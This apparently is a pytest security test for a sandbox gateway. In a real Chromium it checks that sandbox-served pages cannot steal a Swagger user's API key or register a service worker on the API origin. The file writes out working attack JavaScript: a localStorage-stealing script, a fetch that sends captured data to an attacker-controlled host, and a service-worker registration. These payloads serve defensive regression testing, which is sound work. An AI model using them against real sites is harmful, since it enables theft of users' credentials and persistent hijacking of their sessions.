"""Pages of sandboxes in a real Chromium, with every trick to become one with the API's own origin.

A victim has used ``/docs`` with a key, and opens what a sandbox serves. Nothing of it may run on the API's origin, leave
anything there, or keep a hold on a page of it.
"""

from __future__ import annotations

import asyncio
import json
from collections.abc import AsyncIterator, Callable
from pathlib import Path
from typing import Any
from urllib.parse import quote

import httpx
import pytest

from tests.gateway.bed import PORT, Bed, Box
from tests.gateway.browser import CHROMIUM, Browser, Page, chromium_browser

pytestmark = [
    pytest.mark.slow,
    pytest.mark.timeout(300),
    pytest.mark.skipif(CHROMIUM is None, reason="needs Chromium (Debian: apt-get install chromium)"),
]

ATTACKER = Path(__file__).with_name("attacker.py").read_text()
EXPOSE = f"""python3 - <<'END'
import json, os, urllib.request
call = {{"name": "expose_port", "arguments": {{"port": {PORT}}}}}
asked = {{"jsonrpc": "2.0", "id": 1, "method": "tools/call", "params": call}}
headers = {{
    "Authorization": "Bearer " + os.environ["PADDOCK_MCP_TOKEN"],
    "Content-Type": "application/json",
    "Accept": "application/json, text/event-stream",
}}
said = urllib.request.urlopen(urllib.request.Request(os.environ["PADDOCK_MCP_URL"], json.dumps(asked).encode(), headers))
print(said.read().decode())
END"""


class Attacker:
    """Somebody who has a sandbox, and code in it."""

    def __init__(self, box: Box) -> None:
        self.box = box
        self.bed = box.bed
        self.host = f"http://{box.host()}"
        self.api = f"http://localhost:{box.bed.port}"
        self.prefix = f"{self.api}/p/{box.key}/{PORT}"
        self.catch = f"(what) => fetch('{self.host}/catch?what=' + encodeURIComponent(what), {{mode: 'no-cors'}})"

    def page(self, body: str, *headers: tuple[str, str], path: str = "/page", status: int = 200) -> str:
        """The target of a request that is answered so."""
        answer = {"status": status, "headers": headers, "body": body}
        return f"{path}?answer={quote(json.dumps(answer), safe='')}"

    def script(self, code: str, *headers: tuple[str, str], path: str = "/page") -> str:
        """A page that runs this, with ``caught`` to tell the attacker of what it finds."""
        code = f"const caught = {self.catch}; (async () => {{ {code} }})().catch(e => {{ window.failed = String(e) }})"
        body = f"<!doctype html><title>page</title><script>{code}</script>"
        return self.page(body, *headers, path=path)

    def caught(self) -> list[str]:
        with self.box.visitor() as visitor:
            return list(visitor.get("/caught").raise_for_status().json())

    def requests(self, path: str) -> list[dict[str, Any]]:
        with self.box.visitor() as visitor:
            return [one for one in visitor.get("/requests").json() if one["path"] == path]


def _box_of_attacker(bed: Bed, **fields: Any) -> Box:
    box = bed.create(**fields)
    with bed.api() as api:
        body = {"sandbox_id": box.sandbox_id, "path": "/workspace/attacker.py", "content": ATTACKER}
        api.post("/sandboxes/write-file", json=body).raise_for_status()
    box.run(f"python3 /workspace/attacker.py {PORT}", background=True)
    box.run(f"until (: < /dev/tcp/127.0.0.1/{PORT}) 2>/dev/null; do sleep 0.05; done", timeout=60)
    return box


@pytest.fixture
def attacker(local_bed: Bed) -> AsyncIterator[Attacker]:
    box = _box_of_attacker(local_bed, public_ports=True)
    yield Attacker(box)
    box.delete()


@pytest.fixture
async def browser(tmp_path: Path) -> AsyncIterator[Browser]:
    async with chromium_browser(tmp_path / "profile") as browser:
        yield browser


async def _settled(page: Page) -> None:
    await page.until("document.readyState === 'complete' && location.href !== 'about:blank'")


async def _authorize(page: Page, url: str, key: str) -> None:
    """A person gives Swagger their key."""
    await page.open(f"{url}/docs")
    await page.until("document.querySelector('.btn.authorize') !== null")
    await page.click("document.querySelector('.btn.authorize')")
    await page.until("document.querySelector('.auth-container input') !== null")
    await page.click("document.querySelector('.auth-container input')")
    await page.write(key)
    await page.click("document.querySelector('.auth-btn-wrapper .authorize')")
    await page.until("document.querySelector('.auth-btn-wrapper')?.innerText.includes('Logout')")


async def test_a_preview_page_cannot_steal_the_key_of_who_uses_the_docs(local_bed: Bed, browser: Browser) -> None:
    """The attack as it was reported: a link from inside, a redirect to the path form, the stored key, a service worker."""
    box = _box_of_attacker(local_bed)
    attacker = Attacker(box)
    victim = await browser.tab()
    await _authorize(victim, attacker.api, local_bed.key)

    said = box.run(EXPOSE)
    link = next(word for word in said.replace('"', " ").replace("\\", " ").split() if "paddock_link=" in word)
    token = link.partition("paddock_link=")[2].rstrip(".,)")
    worker = attacker.page("onfetch = () => {}", ("Content-Type", "text/javascript"), ("Service-Worker-Allowed", "/"), path="/sw.js")
    code = f"""
        document.title = 'stolen ' + JSON.stringify(localStorage);
        await navigator.serviceWorker.register('/p/{box.key}/{PORT}{worker}', {{scope: '/'}});
        document.title += ' and kept';"""
    there = f"{attacker.prefix}{attacker.script(code)}&paddock_link={token}"
    opened = await browser.tab()
    await opened.open(f"{attacker.host}{attacker.script(f'location = {json.dumps(there)}')}&paddock_link={token}")
    await opened.until(f"location.href.startsWith('{attacker.api}/')")
    await _settled(opened)
    with pytest.raises(TimeoutError):
        await opened.until("document.title.includes('kept')", seconds=3)
    assert "stolen" not in await opened.evaluate("document.title")
    assert not await browser.targets("service_worker")
    assert local_bed.key not in await victim.evaluate("JSON.stringify({...localStorage, ...sessionStorage})")
    box.delete()
